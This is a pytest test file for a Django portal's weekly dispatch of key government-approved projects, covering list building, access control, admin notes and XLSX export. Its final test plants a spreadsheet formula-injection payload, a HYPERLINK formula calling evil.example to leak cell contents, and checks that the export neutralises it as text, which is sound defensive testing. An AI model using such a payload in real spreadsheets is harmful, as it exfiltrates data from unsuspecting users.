import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from portal.accounts.models import Notification
from projects import services, tasks
from projects.models import Dispatch, DispatchItem
from projects.services import ProjectError
from tests.factories import DepartmentFactory, EnterpriseUserFactory, StaffFactory, staff_in_roles
from tests.projects.factories import ProjectFactory, at, filed_project, issued_permit, permit_type

pytestmark = pytest.mark.django_db

WEEK = dt.date(2023, 3, 13)  # a Monday


@pytest.fixture
def coordinators():
    return StaffFactory(display_name="王科长"), StaffFactory(display_name="李科长")


@pytest.fixture
def key_projects(coordinators):
    wang, li = coordinators
    moved = filed_project(
        submitted=at("2023-03-07", 9),
        completed=at("2023-03-08", 10),
        is_key=True,
        coordinator=wang,
        name="智能传感器产业园项目",
    )
    late = filed_project(
        submitted=at("2023-02-01", 9), completed=at("2023-02-01", 15), is_key=True, coordinator=wang
    )
    services.project_update(project=late, data={"land_transferred_on": dt.date(2023, 2, 20)})
    services.permit_apply(
        project=late, permit_type=permit_type("construction"), applied_at=at("2023-03-01", 9)
    )
    services.blocker_raise(
        project=late,
        description="施工用水用电报装进度滞后",
        department=DepartmentFactory(name="园区运营中心"),
        raised_on=dt.date(2023, 3, 2),
    )
    quiet = filed_project(
        submitted=at("2023-01-05", 9), completed=at("2023-01-05", 15), is_key=True, coordinator=li
    )
    ProjectFactory(is_key=False, coordinator=li)  # not a key project: not dispatched
    return moved, late, quiet


def test_each_coordinator_gets_the_week_s_list_of_key_projects(key_projects, coordinators):
    moved, late, quiet = key_projects

    dispatches = services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))

    assert sorted(str(d.coordinator) for d in dispatches) == ["李科长", "王科长"]
    wang = Dispatch.objects.get(coordinator=coordinators[0], week_start=WEEK)
    items = {i.project_id: i for i in wang.items.all()}
    assert set(items) == {moved.pk, late.pk}
    assert items[moved.pk].stage == "land"
    assert items[moved.pk].moved == "03-07 提交企业投资备案（办理时限 1 个工作日）\n03-08 备案办结：予以备案"
    assert items[late.pk].moved == ""
    assert (
        items[late.pk].overdue
        == "建筑工程施工许可证超过办理时限（应于 2023-03-06 前办结，已用 8 / 3 个工作日）"
    )
    assert items[late.pk].blockers == "施工用水用电报装进度滞后（园区运营中心）"
    assert [i.project_id for i in Dispatch.objects.get(coordinator=coordinators[1]).items.all()] == [quiet.pk]


def test_building_the_same_week_twice_adds_nothing_and_keeps_the_notes(key_projects, coordinators):
    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))
    item = DispatchItem.objects.filter(dispatch__coordinator=coordinators[0]).first()
    services.dispatch_item_annotate(item=item, note="本周内办结", resolution="已督办")

    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 9))

    assert Dispatch.objects.count() == 2
    assert DispatchItem.objects.count() == 3
    item.refresh_from_db()
    assert (item.note, item.resolution) == ("本周内办结", "已督办")
    assert Notification.objects.filter(key__startswith="projects:dispatch:").count() == 2


def test_a_dispatch_week_starts_on_monday(key_projects):
    with pytest.raises(ProjectError, match="调度周须从周一开始"):
        services.dispatch_build(week_start=dt.date(2023, 3, 14))


def test_operating_projects_leave_the_dispatch(coordinators):
    project = filed_project(
        submitted=at("2021-03-01", 9),
        completed=at("2021-03-01", 15),
        is_key=True,
        coordinator=coordinators[0],
    )
    issued_permit(project, "construction", applied=at("2021-06-01", 9), issued=at("2021-06-01", 15))
    services.filing_report_submit(project=project, kind="start", reported_on=dt.date(2021, 6, 2))
    services.filing_report_submit(project=project, kind="completion", reported_on=dt.date(2022, 12, 30))
    services.acceptance_record(project=project, mode="online", held_on=dt.date(2023, 1, 10), result="passed")

    assert services.dispatch_build(week_start=WEEK) == []


@time_machine.travel(dt.datetime(2023, 3, 13, 7, 0, tzinfo=dt.timezone(dt.timedelta(hours=8))), tick=False)
def test_the_monday_task_builds_this_week_s_dispatch(key_projects):
    assert tasks.build_weekly_dispatch.delay().get() == 2

    assert set(Dispatch.objects.values_list("week_start", flat=True)) == {WEEK}


def test_staff_see_the_dispatch_page_and_download_it_as_xlsx(client, key_projects, coordinators):
    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))
    client.force_login(staff_in_roles("部门工作人员"))

    page = client.get(reverse("projects:dispatch"))
    assert page.status_code == 200
    html = page.content.decode()
    assert "分包人：王科长（2 个项目）" in html
    assert "施工用水用电报装进度滞后（园区运营中心）" in html

    download = client.get(reverse("projects:dispatch_xlsx"), {"week": WEEK.isoformat()})
    assert download.status_code == 200
    assert download["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(download.getvalue()))
    assert sorted(book.sheetnames) == ["李科长", "王科长"]
    sheet = book["王科长"]
    assert [c.value for c in sheet[2]][:5] == ["序号", "项目代码", "项目名称", "企业", "阶段"]
    assert {row[2] for row in sheet.iter_rows(min_row=3, values_only=True)} >= {"智能传感器产业园项目"}


def test_one_coordinator_s_dispatch_can_be_downloaded_alone(client, key_projects, coordinators):
    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))
    client.force_login(staff_in_roles("部门工作人员"))

    download = client.get(
        reverse("projects:dispatch_xlsx"), {"week": WEEK.isoformat(), "coordinator": coordinators[1].pk}
    )

    assert load_workbook(io.BytesIO(download.getvalue())).sheetnames == ["李科长"]


def test_the_dispatch_page_is_for_staff_only(client, key_projects):
    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))

    anonymous = client.get(reverse("projects:dispatch"))
    assert anonymous.status_code == 302
    assert anonymous.url.startswith(reverse("accounts:login"))
    client.force_login(EnterpriseUserFactory())
    # The site's own refusal, in Chinese, not the admin's login form.
    refused = client.get(reverse("projects:dispatch"))
    assert refused.status_code == 403
    assert "无权" in refused.content.decode()
    assert client.get(reverse("projects:dispatch_xlsx")).status_code == 403


@pytest.mark.parametrize("role", ["审计管理员", "安全管理员", "系统管理员"])
def test_administrators_without_the_project_roles_read_no_dispatch_and_no_project(client, key_projects, role):
    from django.contrib.auth.models import Group
    from django.core.management import call_command

    call_command("sync_roles", stdout=io.StringIO())
    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))
    admin = StaffFactory(department=None)
    admin.groups.set([Group.objects.get(name=role)])
    client.force_login(admin)

    assert client.get(reverse("projects:dispatch")).status_code == 403
    assert client.get(reverse("projects:dispatch_xlsx"), {"week": WEEK.isoformat()}).status_code == 403
    assert client.get("/api/v1/projects/").json()["count"] == 0


def test_staff_annotate_dispatch_items_in_admin(client, staff, key_projects, coordinators):
    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))
    dispatch = Dispatch.objects.get(coordinator=coordinators[1])
    item = dispatch.items.get()
    client.force_login(staff)

    response = client.post(
        reverse("admin:projects_dispatch_change", args=[dispatch.pk]),
        {
            "note": "本周调度会纪要",
            "items-TOTAL_FORMS": "1",
            "items-INITIAL_FORMS": "1",
            "items-MIN_NUM_FORMS": "0",
            "items-MAX_NUM_FORMS": "1000",
            "items-0-id": str(item.pk),
            "items-0-dispatch": str(dispatch.pk),
            "items-0-note": "请国土规划住建局协调",
            "items-0-resolution": "已协调完毕",
        },
    )

    assert response.status_code == 302
    item.refresh_from_db()
    dispatch.refresh_from_db()
    assert (item.note, item.resolution, dispatch.note) == (
        "请国土规划住建局协调",
        "已协调完毕",
        "本周调度会纪要",
    )


def test_a_dispatch_whose_clocks_reach_an_unloaded_year_is_built_on_the_provisional_schedule(key_projects):
    with time_machine.travel(dt.datetime(2100, 3, 1, 9, tzinfo=dt.UTC), tick=False):
        dispatches = services.dispatch_build(week_start=dt.date(2100, 3, 1))

    assert len(dispatches) == 2
    assert Dispatch.objects.count() == 2
    late_permit = DispatchItem.objects.get(project=key_projects[1]).overdue
    assert "建筑工程施工许可证" in late_permit


def test_the_dispatch_xlsx_writes_formula_like_names_and_notes_as_text(client, key_projects, coordinators):
    moved = key_projects[0]
    moved.enterprise.name = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
    moved.enterprise.save()
    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))
    DispatchItem.objects.filter(project=moved).update(note="=1+1", resolution="-2+3")
    Dispatch.objects.filter(coordinator=coordinators[0]).update(note="@SUM(A1:A9)")
    client.force_login(staff_in_roles("部门工作人员"))

    download = client.get(reverse("projects:dispatch_xlsx"), {"week": WEEK.isoformat()})

    sheet = load_workbook(io.BytesIO(download.getvalue()))["王科长"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点此查看")' in values
    assert {"'=1+1", "'-2+3", "'@SUM(A1:A9)"} <= values
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
